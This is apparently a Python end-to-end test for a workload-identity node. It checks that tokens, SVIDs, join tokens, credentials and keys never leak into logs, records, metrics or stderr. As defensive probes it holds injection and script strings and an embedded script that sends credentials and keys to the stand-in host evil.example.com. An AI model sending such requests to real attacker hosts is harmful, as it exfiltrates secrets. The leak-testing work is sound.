"""A node goes through tokens, SVIDs, credentials, join tokens, revocations and calls out, rightly and wrongly.

No secret of them is in a log, a record, a status, a metric or on stderr.
"""

from __future__ import annotations

import base64
import contextlib
import os
import signal
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from spiffe import WorkloadApiClient
from tests.e2e.caller import client_of
from tests.e2e.certificates import Credential, context_with
from tests.e2e.node import Node, new_home, wait_until
from tests.e2e.test_run import Allow
from tests.e2e.wire import HTTP_1, HTTP_2, tls_context
from tests.simulators.origin import Origin

ROUTE = """\
apiVersion: vedette.dev/v1alpha1
kind: Route
metadata: {name: plain}
spec:
  rules: [{matches: [{path: {value: /plain}}], static: {body: fine}}]
"""
KEY_FILES = (
    ("control", "ca.key"),
    ("control", "signing.key"),
    ("control", "token.key"),
    ("control", "jwt-svid.key"),
    ("control", "audit.key"),
    ("control", "seal.key"),
    ("engine", "tls", "server.key"),
)


class Told:
    """A node's commands, with all that they printed on stderr."""

    def __init__(self, node: Node) -> None:
        self.node = node
        self.stderr = ""

    def __call__(self, *arguments: str, check: bool = True) -> str:
        done = self.node.run(*arguments, check=check)
        self.stderr += done.stderr
        return done.stdout.strip()


@pytest.fixture(scope="module")
def told() -> Iterator[Told]:
    node = Node(new_home(), ("--name", "edge-secret", "--site", "example.org"))
    try:
        yield Told(node.start())
    finally:
        node.discard()


def _tokens(told: Told, folder: Path) -> dict[str, str]:
    """A token that is used, forged, doubled, sent where it does not belong, and revoked."""
    told.node.apply(ROUTE)
    token = told("token", "--subject", "alice", "--ttl", "1h")
    forged = token[:-10] + token[:-11:-1]
    for protocol in (HTTP_1, HTTP_2):
        with client_of(told.node, protocol, tls_context(told.node.ca_file, protocol)) as client:
            bearer = ("authorization", f"Bearer {token}")
            for path, headers, expected in (
                ("/plain", [bearer], (200,)),
                ("/plain", [("authorization", f"Bearer {forged}")], (401,)),
                ("/plain", [bearer, bearer], (400, 401)),
                ("/plain", [("cookie", f"session={token}"), ("x-token", token)], (401,)),
                (f"/nowhere?access_token={token}&q=<script>", [bearer], (403, 404)),
                (f"/plain/%zz?access_token={token}", [], (400, 401, 404)),
            ):
                assert client.get(path, headers=headers).status_code in expected, path
            client.post("/plain", content=f"password={token}' or 1=1 --", headers=[bearer])
    (folder / "token").write_text(token)
    told("revoke", f"@{folder / 'token'}")
    told("revoke", token, check=False)  # where it does not belong: refused
    told("revoke", "--list", "--json")
    return {"token": token, "forged token": forged, "signature": token.rpartition(".")[2]}


def _identities(told: Told, folder: Path) -> dict[str, str | bytes]:
    """SVIDs of both kinds, shown to the node and wrongly validated; a join token, used twice, and a guess."""
    told("workload", "add", "shop", "--uid", str(os.getuid()))
    told("authority", "add", "own", "--ca", str(told.node.ca_file), "--trust-domain", _domain(told))
    with WorkloadApiClient(told.node.status()["workloadApi"]) as client:
        svid = client.fetch_x509_svid()
        jwt = client.fetch_jwt_svid(audience={"billing"}).token
        with contextlib.suppress(Exception):
            client.validate_jwt_svid(jwt, audience="another")
    private = svid.private_key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    file = folder / "svid.pem"
    file.write_bytes(private + svid.leaf.public_bytes(Encoding.PEM))
    credential = Credential(svid.leaf, file)
    context = context_with(told.node.endpoint, HTTP_1, credential)
    with client_of(told.node, HTTP_1, context) as client:
        assert client.get("/plain").status_code == 403
        assert client.get("/plain", headers={"authorization": f"Bearer {jwt}"}).status_code == 401
    told("authority", "revoke", "own", str(file))
    with (
        client_of(told.node, HTTP_1, context) as client,
        contextlib.suppress(httpx.TransportError),
    ):
        client.get("/plain")
    joined = told("join-token", "create", "--spiffe-id", "/billing", "--ttl", "10m")
    guess = joined[:-4] + "AAAA"
    for text, works in ((guess, False), (joined, True), (joined, False)):
        (folder / "join").write_text(text)
        done = told.node.run(
            "join-token", "redeem", "--token-file", str(folder / "join"), check=works
        )
        told.stderr += done.stderr
        assert (done.returncode == 0) is works
    told("workload", "remove", "shop")
    told("revoke", f"spiffe://{_domain(told)}/billing")
    der = svid.private_key.private_bytes(Encoding.DER, PrivateFormat.PKCS8, NoEncryption())
    return {
        "JWT-SVID": jwt,
        "signature of a JWT-SVID": jwt.rpartition(".")[2],
        "key of an X509-SVID": der,
        "join token": joined,
        "wrong join token": guess,
    }


_SHOWS = """
import http.client, os, socket, sys
url, port, header, query, user = sys.argv[1:]
def call(target, **headers):
    proxy = http.client.HTTPConnection("127.0.0.1", 3128, timeout=60)
    proxy.request("GET", target, headers={**headers, "proxy-authorization": "Basic " + header})
    answer = proxy.getresponse()
    answer.read()
    return answer.status
print(call(url + "/?key=" + query, authorization="Bearer " + header))
print(call("http://evil.example.com/?key=" + query, authorization="Bearer " + header))
print(call(f"http://{user}:{user}@evil.example.com/"))
for target in (f"evil.example.com:443", f"{user}@evil.example.com:443"):
    with socket.create_connection(("127.0.0.1", 3128), 60) as stream:
        stream.sendall(f"CONNECT {target} HTTP/1.1\\r\\nproxy-authorization: Basic {header}\\r\\n\\r\\n".encode())
        print(stream.recv(12))
"""


def _egress(told: Told, folder: Path, origin: Origin) -> dict[str, str]:
    """A credential that the node adds, to one that answers and one that is away; a program's own secrets."""
    own = {name: f"{name}-0f3c9a7be1" for name in ("header", "query", "user")}
    (folder / "credential").write_text("credential-5ad81c20f7\n")
    told("credential", "add", "stripe", "--file", str(folder / "credential"))
    (folder / "wrong").write_text("wrong-credential-77\nof two lines")
    told("credential", "add", "wrong", "--file", str(folder / "wrong"), check=False)
    allow = Allow(told.node, "shop")
    credential = "credential: {name: stripe}"
    allow.rules(f'to: "{origin.url}", {credential}', f'to: "http://127.0.0.1:1", {credential}')
    for url in (origin.url, "http://127.0.0.1:1"):
        done = allow.run(sys.executable, "-c", _SHOWS, url, "1", *own.values())
        told.stderr += done.stderr
        assert done.returncode == 0, done.stderr
    assert origin.received[-1].headers["authorization"] == ["Bearer credential-5ad81c20f7"]
    told("credential", "list", "--json")
    return {**own, "credential": "credential-5ad81c20f7", "refused credential": "wrong-credential"}


def _domain(told: Told) -> str:
    return str(told.node.status()["trustDomain"])


def _keys_of(node: Node) -> dict[str, str]:
    """A line of each key that the node keeps in the clear or sealed."""
    found = {}
    for parts in KEY_FILES:
        text = node.path(*parts).read_text("ascii")
        lines = [it for it in text.splitlines() if len(it) > 30 and "-----" not in it]
        found["/".join(parts)] = lines[-1][:60]
    return found


def _spellings(secret: str | bytes) -> Iterator[bytes]:
    """The secret as it is, in hexadecimal, and in base64 of both alphabets at each place it may begin."""
    raw = secret.encode() if isinstance(secret, str) else secret
    yield raw
    yield raw.hex().encode()
    for start in range(3):
        whole = base64.b64encode(raw[start : start + (len(raw) - start) // 3 * 3])
        yield whole
        yield whole.translate(bytes.maketrans(b"+/", b"-_"))


def _everything_said(told: Told) -> dict[str, bytes]:
    """All that a node writes for people to read, by where it is."""
    node = told.node
    said = {"stderr": told.stderr.encode()}
    for name in (
        "status",
        "status --json",
        "records --json",
        "records --kind admin",
        "revoke --list",
    ):
        done = node.run(*name.split())
        said[name] = (done.stdout + done.stderr).encode()
    said["metrics"] = httpx.get(node.status()["metrics"]["url"], trust_env=False).content
    for folder in (("log",), ("spool",), ("control", "admin"), ("run",)):
        for file in node.path(*folder).rglob("*"):
            if file.is_file():
                said[str(file.relative_to(node.home))] = file.read_bytes()
    for file in node.path("control").glob("audit.db*"):
        said[str(file.relative_to(node.home))] = file.read_bytes()
    return said


def _found(secrets: dict[str, str | bytes], said: dict[str, bytes]) -> list[tuple[str, str]]:
    spelled = {name: [*_spellings(secret)] for name, secret in secrets.items()}
    return [
        (name, place)
        for place, text in said.items()
        for name, each in spelled.items()
        if any(one in text for one in each)
    ]


def test_no_secret_is_in_a_log_a_record_a_status_or_on_stderr(
    told: Told, origin: Origin, tmp_path: Path
) -> None:
    node = told.node
    secrets: dict[str, str | bytes] = dict(_tokens(told, tmp_path))
    secrets |= _identities(told, tmp_path)
    secrets |= _egress(told, tmp_path, origin)
    secrets |= _keys_of(node)
    with node.admin() as admin:
        admin.post("/v1/ca/rotate", json={"now": True}).raise_for_status()
    for process in ("control", "engine"):
        before = node.pid(process)
        os.kill(before, signal.SIGKILL)
        wait_until(f"{process} is another", lambda: _pid(node, process) not in (0, before))  # noqa: B023
    node.egress.wait_for(lambda line: line.get("host") == "evil.example.com")
    node.requests.wait_for(lambda line: str(line.get("cause")).startswith("token_"))
    said = _everything_said(told)
    assert all(len(secret) >= 10 for secret in secrets.values()), secrets.keys()
    assert _found(secrets, said) == []
    # What is looked through is there, and what is in it is found.
    assert {place for _, place in _found({"host": "evil.example.com"}, said)} >= {"records --json"}
    assert _found({"planted": "alice"}, {"x": base64.b64encode(b"x-alice-y")}) == [("planted", "x")]


def _pid(node: Node, process: str) -> int:
    with contextlib.suppress(Exception):
        return node.pid(process)
    return 0
